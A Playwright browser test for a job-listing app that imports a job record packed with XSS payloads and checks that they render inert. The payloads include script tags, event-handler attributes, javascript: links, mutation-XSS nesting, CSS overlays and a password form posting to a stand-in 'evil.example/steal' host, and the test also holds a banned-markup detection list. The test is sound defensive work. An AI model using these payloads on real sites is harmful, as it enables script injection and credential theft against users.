"""A job description is hostile input: script, event handlers, javascript: URLs and
CSS tricks must all render inert in a real browser under the app's CSP."""

from __future__ import annotations

import json

from playwright.sync_api import expect

from tests.browser.conftest import VIEWPORTS, screenshot

HOSTILE = """Great job! **Apply now**

<script>window.__pwned = 'script'</script>
<img src="x" onerror="window.__pwned = 'img'">
<svg onload="window.__pwned = 'svg'"><circle r="5"/></svg>
<iframe src="javascript:window.top.__pwned = 'iframe'"></iframe>
<a href="javascript:window.__pwned = 'link'" id="js-link">Click me</a>
<a href="JaVaScRiPt:alert(1)">Also me</a>
<a href="https://example.com/apply" onclick="window.__pwned = 'onclick'">Real link</a>
<div style="position:fixed;inset:0;z-index:9999;background:red" onmouseover="window.__pwned='hover'">Overlay</div>
<style>body { display: none !important; }</style>
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<details open ontoggle="window.__pwned = 'toggle'"><summary>More</summary></details>
[markdown link](javascript:window.__pwned='md')
<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned='mxss'">
"""


def test_a_hostile_description_renders_inert(browser, server):
    context = browser.new_context(viewport=VIEWPORTS["desktop"])
    page = context.new_page()
    dialogs, errors = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(server.login_url())
    body = json.dumps([{"id": "evil-1", "site": "indeed", "title": "<img src=x onerror=alert(1)> Engineer",
                        "company": "<b onmouseover=alert(2)>Evil Corp</b>", "description": HOSTILE,
                        "job_url": "javascript:alert(3)", "job_url_direct": "https://example.com/apply"}])
    result = page.evaluate("body => fetch('/api/v1/import?format=json', {method: 'POST', body})"
                           ".then(r => r.json())", body)
    assert result["new"] == 1
    page.goto(f"{server.url}/#/jobs")
    row = page.get_by_test_id("job-row").first
    expect(row).to_contain_text("Engineer")
    row.locator(".job-link").click()

    description = page.get_by_test_id("job-description")
    expect(description).to_contain_text("Real link")
    expect(page.get_by_test_id("job-title")).to_have_text("<img src=x onerror=alert(1)> Engineer")  # shown as text
    description.hover()
    page.get_by_text("Click me").click()
    page.get_by_text("Also me").click()
    page.wait_for_load_state()

    assert page.evaluate("window.__pwned") is None
    assert not dialogs
    html = description.inner_html().lower()
    for banned in ("<script", "<img", "<svg", "<iframe", "<style", "<form", "<input", "<math", "onerror",
                   "onload", "onclick", "onmouseover", "ontoggle", "style="):
        assert banned not in html, banned
    # javascript: may remain as visible text, never in an attribute.
    assert page.evaluate("""el => [...el.querySelectorAll('*')].flatMap(e => [...e.attributes])
        .filter(a => /javascript:|^on/i.test(a.value + ' ' + a.name)).length""", description.element_handle()) == 0
    # Links survive only with http(s) targets, opening with no opener and no referrer.
    links = description.locator("a[href]")
    expect(links).to_have_count(1)
    expect(links.first).to_have_attribute("href", "https://example.com/apply")
    expect(links.first).to_have_attribute("rel", "noopener noreferrer")
    expect(links.first).to_have_attribute("target", "_blank")
    # The page is still visible (no CSS took it over) and the javascript: job URL gave no link.
    expect(page.locator("body")).to_be_visible()
    assert page.locator("a[href^='javascript' i]").count() == 0
    expect(page.get_by_test_id("apply-link")).to_have_attribute("href", "https://example.com/apply")
    screenshot(page, "xss-detail-desktop")
    assert page.url.startswith(server.url)
    assert not errors
    context.close()
